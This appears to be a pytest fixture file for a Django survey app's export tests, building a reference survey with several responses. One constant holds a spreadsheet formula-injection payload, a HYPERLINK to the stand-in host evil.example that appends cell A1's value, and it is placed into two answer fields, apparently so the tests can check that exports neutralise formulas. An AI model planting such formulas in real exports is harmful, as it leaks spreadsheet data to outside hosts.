"""Fixtures of the export tests: the reference survey with a few responses."""

from __future__ import annotations

import datetime as dt

import pytest
from django.utils import timezone

from reports.services import profiles_fill
from surveys.models import Response
from surveys.selectors import sheet_for_version_id
from tests.accounts.factories import UserFactory
from tests.reports.profile_helpers import reference_answers, reference_survey
from tests.surveys.factories import ResponseFactory

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def exports_dir(settings, tmp_path):
    settings.EXPORTS_DIR = tmp_path / "exports"
    return settings.EXPORTS_DIR


@pytest.fixture
def survey_with_responses(db, exports_dir):
    """The reference survey owned by a researcher, with 5 counted responses
    (one with a formula in its "other" text and comment), a voided one and a
    draft, each counted one with its profile."""
    survey = reference_survey()
    survey.owner = UserFactory(role="researcher")
    survey.save()
    definition = sheet_for_version_id(survey.current_version_id).definition
    base = timezone.now() - dt.timedelta(days=3)
    for seed in range(5):
        answers = reference_answers(definition, seed=seed)
        if seed == 0:
            answers["tools_used"] = ["dvc", "other"]
            answers["tools_used__other"] = INJECTION
            answers["tool_frequency"] = {"dvc": "daily", "other": "weekly"}
            answers["challenges_comment"] = INJECTION
            answers = {
                k: v
                for k, v in answers.items()
                if not k.startswith(("assess_", "satisfaction_"))
            }
            answers["assess_dvc"] = {"data_versioning": "present"}
            clean, errors = sheet_for_version_id(survey.current_version_id).clean(
                answers, complete=False
            )
            assert not errors, errors
            answers = clean
        ResponseFactory(
            survey=survey,
            submitted=True,
            answers=answers,
            submitted_at=base + dt.timedelta(hours=seed),
            language="pt-br" if seed % 2 else "en",
        )
    ResponseFactory(
        survey=survey, voided=True, answers=reference_answers(definition, seed=9)
    )
    ResponseFactory(survey=survey, answers={"age_range": "18_25"})
    profiles_fill(version=survey.current_version)
    return survey


def counted(survey) -> list[Response]:
    return list(
        Response.objects.counted()
        .filter(survey=survey)
        .order_by("submitted_at", "started_at", "id")
    )
